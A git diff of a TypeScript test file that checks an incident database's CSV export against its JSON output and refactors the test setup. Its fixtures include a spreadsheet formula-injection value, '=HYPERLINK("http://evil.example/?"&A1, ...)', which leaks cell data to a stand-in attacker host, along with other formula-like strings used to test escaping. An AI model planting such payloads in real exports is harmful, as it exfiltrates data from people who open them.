@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createActors, incidentBody, type Actors } from './support/factories.ts';
-import { request, startTestApp, type TestApp } from './support/test-app.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { incidentBody } from './support/factories.ts';
+import { request, useTestApp } from './support/test-app.ts';
 
 /**
  * The CSV export's lines are built by PostgreSQL (src/exports/incident-csv.ts) from
@@ -11,16 +11,15 @@ import { request, startTestApp, type TestApp } from './support/test-app.ts';
  * differ between the two formats without a failure naming the cell.
  */
 
-let app: TestApp;
-let actors: Actors;
+const t = useTestApp();
 
 type Reader = 'public' | 'admin' | 'researcher' | 'editor' | 'otherEditor';
 const READERS: Reader[] = ['public', 'admin', 'researcher', 'editor', 'otherEditor'];
-const keyOf = (reader: Reader) => (reader === 'public' ? undefined : actors[reader]);
+const keyOf = (reader: Reader) => (reader === 'public' ? undefined : t.actors[reader]);
 
 async function fetchText(path: string, reader: Reader): Promise<string> {
   const key = keyOf(reader);
-  const response = await fetch(`${app.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
+  const response = await fetch(`${t.app.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
   expect(response.status, path).toBe(200);
   return Buffer.from(await response.arrayBuffer()).toString('utf8');
 }
@@ -66,7 +65,9 @@ function expectedCells(incident: any): Record<string, string> {
     victim_nationalities: list(victims.map((victim) => victim.nationality)),
     victim_outlets: text(list(victims.map((victim) => victim.outlet))),
     victim_protected: list(victims.map((victim) => victim.protected)),
-    perpetrators: text(list(incident.perpetratorClaims.map((claim: any) => `${claim.actorName} (${claim.actorType}, ${claim.attribution})`))),
+    perpetrators: text(
+      list(incident.perpetratorClaims.map((claim: any) => `${claim.actorName} (${claim.actorType}, ${claim.attribution})`)),
+    ),
     source_titles: text(list(sources.map((source) => source.title))),
     source_urls: text(list(sources.map((source) => source.url))),
     source_kinds: list(sources.map((source) => source.kind)),
@@ -80,20 +81,32 @@ function expectedCells(incident: any): Record<string, string> {
 }
 
 beforeAll(async () => {
-  app = await startTestApp();
-  actors = await createActors(app.db);
   const tricky = [
     incidentBody(),
     incidentBody({
       title: '=HYPERLINK("http://evil.example/?"&A1, "click")',
       description: 'Line one\r\nline two, with "quotes"; and a semicolon\nand a bare LF',
       internalNotes: '+notes that look like a formula',
-      location: { country: 'SY', region: '-Idlib-', city: 'Saraqib, "old town"', coordinates: { latitude: -0.000123, longitude: 36.8, precision: 'exact' } },
+      location: {
+        country: 'SY',
+        region: '-Idlib-',
+        city: 'Saraqib, "old town"',
+        coordinates: { latitude: -0.000123, longitude: 36.8, precision: 'exact' },
+      },
       attackTypes: ['killing', 'abduction'],
       motive: 'work_related_confirmed',
       judicialOutcome: 'no_investigation',
       victims: [
-        { name: '@handle', nameOriginal: 'حلا بركات', role: 'journalist', gender: 'female', nationality: 'SY', outlet: 'Orient, News', outcome: 'killed', protected: true },
+        {
+          name: '@handle',
+          nameOriginal: 'حلا بركات',
+          role: 'journalist',
+          gender: 'female',
+          nationality: 'SY',
+          outlet: 'Orient, News',
+          outcome: 'killed',
+          protected: true,
+        },
         { role: 'activist', outcome: 'killed' },
         { name: 'Abd al-Qader "Abu Ali"', role: 'media_worker', gender: 'male', nationality: 'TR', outlet: '＝Outlet', outcome: 'injured' },
       ],
@@ -107,35 +120,43 @@ beforeAll(async () => {
         { title: 'Ministry statement', kind: 'official_statement', public: true },
       ],
     }),
-    incidentBody({ date: { precision: 'month', value: '2015-10' }, victims: [], perpetratorClaims: [], sources: [], description: null, internalNotes: null }),
-    incidentBody({ date: { precision: 'range', from: '2017-09-20', to: '2017-09-30' }, victims: [{ name: 'Only protected', protected: true, outcome: 'threatened' }] }),
+    incidentBody({
+      date: { precision: 'month', value: '2015-10' },
+      victims: [],
+      perpetratorClaims: [],
+      sources: [],
+      description: null,
+      internalNotes: null,
+    }),
+    incidentBody({
+      date: { precision: 'range', from: '2017-09-20', to: '2017-09-30' },
+      victims: [{ name: 'Only protected', protected: true, outcome: 'threatened' }],
+    }),
   ];
   for (const [index, body] of tricky.entries()) {
-    const key = index % 2 ? actors.editor : actors.otherEditor;
-    const created = await request(app, 'POST', '/v1/incidents', { key, body });
+    const key = index % 2 ? t.actors.editor : t.actors.otherEditor;
+    const created = await request(t.app, 'POST', '/v1/incidents', { key, body });
     expect(created.status, created.text).toBe(201);
     if (index !== 3) {
-      const reviewer = index % 2 ? actors.reviewer : actors.otherReviewer;
-      const published = await request(app, 'POST', `/v1/incidents/${created.body.id}/publish`, { key: reviewer, body: {} });
+      const reviewer = index % 2 ? t.actors.reviewer : t.actors.otherReviewer;
+      const published = await request(t.app, 'POST', `/v1/incidents/${created.body.id}/publish`, { key: reviewer, body: {} });
       expect(published.status, published.text).toBe(200);
     }
   }
   // A later edit of children: the lists follow it (a victim removed, a source added, order changed).
-  const { body: page } = await request(app, 'GET', '/v1/incidents?limit=10', { key: actors.editor });
-  const own = page.data.find((incident: any) => incident.organisation.id === actors.ownOrganisation.id && incident.victims.length === 3);
-  const edit = await request(app, 'PATCH', `/v1/incidents/${own.id}`, {
-    key: actors.editor,
+  const { body: page } = await request(t.app, 'GET', '/v1/incidents?limit=10', { key: t.actors.editor });
+  const own = page.data.find((incident: any) => incident.organisation.id === t.actors.ownOrganisation.id && incident.victims.length === 3);
+  const edit = await request(t.app, 'PATCH', `/v1/incidents/${own.id}`, {
+    key: t.actors.editor,
     headers: { 'if-match': `"${own.version}"` },
     body: {
       victims: [own.victims[2], own.victims[0]].map(({ id: _id, ...victim }: any) => victim),
-      sources: [...own.sources, { url: 'https://example.org/new', title: 'Added later', kind: 'ngo_report', public: true }].map(({ id: _id, ...source }: any) => source),
+      sources: [...own.sources, { url: 'https://example.org/new', title: 'Added later', kind: 'ngo_report', public: true }].map(
+        ({ id: _id, ...source }: any) => source,
+      ),
     },
   });
   expect(edit.status, edit.text).toBe(200);
-});
-
-afterAll(async () => {
-  await app?.close();
 });
 
 describe('the CSV export', () => {
@@ -166,7 +187,7 @@ describe('the CSV export', () => {
     let path: string | null = '/v1/incidents?format=csv&limit=2';
     while (path) {
       const key = keyOf(reader);
-      const response: Response = await fetch(`${app.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
+      const response: Response = await fetch(`${t.app.url}${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
       const body = await response.text();
       pages.push(body.slice(body.indexOf('\r\n') + 2));
       path = /<([^>]+)>; rel="next"/.exec(response.headers.get('link') ?? '')?.[1] ?? null;
